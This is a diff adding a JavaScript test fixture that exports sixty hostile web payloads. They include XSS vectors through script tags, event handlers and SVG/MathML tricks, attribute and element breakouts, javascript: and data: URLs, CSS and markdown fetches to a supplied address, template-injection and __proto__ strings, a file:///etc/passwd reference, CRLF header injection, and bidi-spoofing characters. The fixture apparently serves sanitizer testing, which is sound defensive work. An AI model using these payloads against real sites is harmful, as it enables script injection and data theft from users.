@@ -1,0 +1,73 @@
+// Sixty texts that try to run something (`alert(N)`), to fetch something (`ADDRESS/N`), or to break the page.
+// N is the number of the text.
+
+export function hostilePayloads(address) {
+  const { host } = new URL(address);
+  return [
+    // Elements that run or fetch.
+    '<script>alert(1)</script>',
+    `<script src="${address}/2"></script>`,
+    `<script type="module">import "${address}/3"; alert(3)</script>`,
+    '<img src=x onerror=alert(4)>',
+    `<img src="${address}/5" onload="alert(5)" onerror="alert(5)">`,
+    `<img src="${address}/6" srcset="${address}/6 2x">`,
+    `<picture><source srcset="${address}/7"><img></picture>`,
+    '<svg onload="alert(8)"></svg>',
+    `<svg><script href="${address}/9">alert(9)</script></svg>`,
+    `<svg><image href="${address}/10"/><use href="${address}/10#a"/></svg>`,
+    '<svg><animate onbegin="alert(11)" attributeName="x" dur="1s"/></svg>',
+    `<svg><foreignObject><iframe src="${address}/12"></iframe></foreignObject></svg>`,
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(13)&gt;">',
+    '<iframe srcdoc="<script>parent.alert(14)</script>"></iframe>',
+    '<iframe src="javascript:parent.alert(15)"></iframe>',
+    `<frameset><frame src="${address}/16"></frameset>`,
+    `<object data="${address}/17"></object><embed src="${address}/17">`,
+    `<video src="${address}/18" poster="${address}/18" autoplay onerror="alert(18)"></video>`,
+    `<audio src="${address}/19" autoplay onerror="alert(19)"></audio>`,
+    `<video src="data:video/mp4,"><track src="${address}/20" default></video>`,
+    `<link rel="stylesheet" href="${address}/21">`,
+    `<link rel="preload" as="image" href="${address}/22"><link rel="prefetch" href="${address}/22">`,
+    `<meta http-equiv="refresh" content="0;url=${address}/23">`,
+    `<base href="${address}/24/"><img src="relative">`,
+    `<form action="${address}/25"><input name="q" autofocus onfocus="this.form.submit()"></form>`,
+    '<form><button formaction="javascript:alert(26)">Call</button></form>',
+    '<details open ontoggle="alert(27)">',
+    '<input autofocus onfocus="alert(28)">',
+    '<p style="animation:x" onanimationstart="alert(29)" hidden>',
+    `<body onload="alert(30)" background="${address}/30">`,
+    '<div style="position:fixed;inset:0;background:red" onmousemove="alert(31)">',
+    '<template><script>alert(32)</script></template><dialog open onclose="alert(32)">Call</dialog>',
+    `<a href="${address}/33" ping="${address}/33" target="_top">Accept</a>`,
+    '<noscript><p title="</noscript><img src=x onerror=alert(34)>">',
+    // Ways out of attributes, elements and encodings.
+    '"><script>alert(35)</script>',
+    `' onmouseover='alert(36)' style='position:fixed;inset:0`,
+    '" autofocus onfocus="alert(37)" x="',
+    '</title></textarea></style></script><img src=x onerror=alert(38)>',
+    '--><img src=x onerror=alert(39)><!--',
+    ']]><img src=x onerror=alert(40)><![CDATA[',
+    '</option></select></datalist><img src=x onerror=alert(41)>',
+    '&lt;img src=x onerror=alert(42)&gt; &#60;script&#62;alert(42)&#60;/script&#62;',
+    '\\u003cscript\\u003ealert(43)\\u003c/script\\u003e %3Cscript%3Ealert(43)%3C/script%3E',
+    // Addresses.
+    'javascript:alert(44)',
+    'java\tscript:alert(45)',
+    'data:text/html,<script>alert(46)</script>',
+    'vbscript:alert(47)',
+    `blob:${address}/48`,
+    `//${host}/49`,
+    'file:///etc/passwd#50',
+    `http://user:secret@${host}/51`,
+    // Styles, markdown, templates, names that objects have.
+    `<style>@import '${address}/52'; body { display: none; background: url(${address}/52) }</style>`,
+    `<p style="background:url(${address}/53);width:99999px">`,
+    `}*{background:url(${address}/54);width:99999px}`,
+    `![picture](${address}/55) [link](javascript:alert(55)) [![both](${address}/55)](${address}/55)`,
+    `{{constructor.constructor('alert(56)')()}} \${alert(56)} <%= alert(56) %> #{alert(56)}`,
+    '__proto__',
+    // Characters that hide, turn or break what stands around them.
+    '\u202egnp.exe\u202c \u2066hidden\u2069 \u200bzero\u00ad \ud800lone',
+    '\u0007bell \u001b[31mred\u001b]0;title\u0007 \r\nSet-Cookie: a=b',
+    `${'W'.repeat(2000)} ${'Z\u0351\u0489'.repeat(200)}`,
+  ];
+}
